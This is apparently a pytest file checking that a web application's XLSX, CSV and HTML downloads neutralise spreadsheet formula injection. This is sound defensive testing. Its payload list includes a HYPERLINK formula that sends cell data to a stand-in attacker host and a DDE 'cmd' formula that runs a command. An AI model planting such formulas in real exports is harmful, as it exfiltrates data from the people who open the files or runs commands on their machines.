"""Every spreadsheet the web application lets people download is safe to open (issue 13,
security tests): text that a spreadsheet would run as a formula, a cell beginning ``=``,
``+``, ``-``, ``@``, tab or carriage return, comes out prefixed with ``'``. The web's
downloads are the appraisal's and the sharing agreements' XLSX reports, each fed names that
are formulas and read back with openpyxl; and a release's figures as CSV
(tests/web/test_web_release_figures.py)."""

from __future__ import annotations

import io
from importlib import resources
from typing import Any

import openpyxl
import pytest
import yaml
from fastapi.testclient import TestClient
from web_place import csrf_of, sign_in

DATA = resources.files("wholeplace") / "data"
# each a formula a spreadsheet would run, marked so it can be found again
PAYLOADS = (
    '=HYPERLINK("http://attacker.invalid/?q="&A1,"PWN1")',
    "+PWN2+1",
    "-PWN3+cmd|' /C calc'!A0",
    "@SUM(PWN4)",
    "\tPWN5",
    "\rPWN6",
)
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _yaml(name: str) -> dict[str, Any]:
    data: dict[str, Any] = yaml.safe_load((DATA / name).read_text(encoding="utf-8"))
    return data


def _hostile_appraisal() -> bytes:
    a = _yaml("cba/example_appraisal.yaml")
    a["appraisal"]["name"] = PAYLOADS[0]
    for i, item in enumerate(a["costs"] + a["outcomes"]):
        item["description"] = PAYLOADS[i % len(PAYLOADS)] + f" item {i}"
    a["costs"][0]["agency"] = PAYLOADS[3]
    return yaml.safe_dump(a, allow_unicode=True).encode("utf-8")


def _hostile_pool() -> bytes:
    p = _yaml("sharing/pool_example.yaml")
    p["name"] = PAYLOADS[0]
    p["partners"] = {k: PAYLOADS[i + 1] for i, k in enumerate(p["partners"])}
    p["services"] = [PAYLOADS[4], PAYLOADS[5]]
    return yaml.safe_dump(p, allow_unicode=True).encode("utf-8")


def _hostile_gainshare() -> bytes:
    g = _yaml("sharing/gainshare_example.yaml")
    g["name"] = PAYLOADS[1]
    for i, partner in enumerate(g["partners"].values()):
        partner["name"] = PAYLOADS[(i + 2) % len(PAYLOADS)]
    return yaml.safe_dump(g, allow_unicode=True).encode("utf-8")


def _hostile_recharges() -> bytes:
    lines = (DATA / "sharing/staff_example.csv").read_text(encoding="utf-8").splitlines()
    out = [lines[0]]
    for i, line in enumerate(lines[1:]):
        cells = line.split(",")
        cells[1] = '"' + PAYLOADS[i % len(PAYLOADS)].replace('"', '""') + '"'
        out.append(",".join(cells))
    return ("\n".join(out) + "\n").encode("utf-8")


# the download: (route, form fields, file name, body)
DOWNLOADS = {
    "appraisal": ("/appraisals/run", {}, "appraisal.yaml", _hostile_appraisal),
    "pool": ("/sharing/run", {"kind": "pool"}, "pool.yaml", _hostile_pool),
    "gain-share": ("/sharing/run", {"kind": "gainshare"}, "gs.yaml", _hostile_gainshare),
    "recharges": ("/sharing/run", {"kind": "recharges"}, "staff.csv", _hostile_recharges),
}


def _download(client: TestClient, which: str, output: str) -> bytes:
    route, fields, name, body = DOWNLOADS[which]
    csrf = csrf_of(client.get("/uploads").text)
    r = client.post(
        route,
        data={"csrf": csrf, "output": output, **fields},
        files={"file": (name, body())},
    )
    assert r.status_code == 200, r.text[:3000]
    assert r.headers["content-disposition"].startswith("attachment;")
    return r.content


@pytest.mark.parametrize("which", list(DOWNLOADS))
def test_every_xlsx_download_neutralises_formulas(client: TestClient, which: str) -> None:
    sign_in(client, "admin")
    wb = openpyxl.load_workbook(io.BytesIO(_download(client, which, "xlsx")))
    found = set()
    prefixed = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                v = cell.value
                if not isinstance(v, str):
                    continue
                marks = {m for m in ("PWN1", "PWN2", "PWN3", "PWN4", "PWN5", "PWN6") if m in v}
                found |= marks
                prefixed += bool(marks) and v.startswith("'") and v[1:].startswith(TRIGGERS)
                if marks:
                    # the input's text: never a formula, however it is placed in the cell
                    assert cell.data_type == "s", (ws.title, cell.coordinate, v)
                    assert not v.startswith(TRIGGERS), (ws.title, cell.coordinate, v)
                elif v.startswith(TRIGGERS):
                    # only the program's own formulas may start so (the appraisal's sums)
                    assert cell.data_type == "f", (ws.title, cell.coordinate, v)
    # the payloads reached the workbook as whole cells, neutralised: not a vacuous pass
    assert prefixed >= 2, (found, prefixed)


@pytest.mark.parametrize("which", list(DOWNLOADS))
def test_html_downloads_carry_no_markup_from_the_input(client: TestClient, which: str) -> None:
    sign_in(client, "admin")
    html = _download(client, which, "html").decode("utf-8")
    assert "PWN" in html
    assert '<a href="http://attacker' not in html
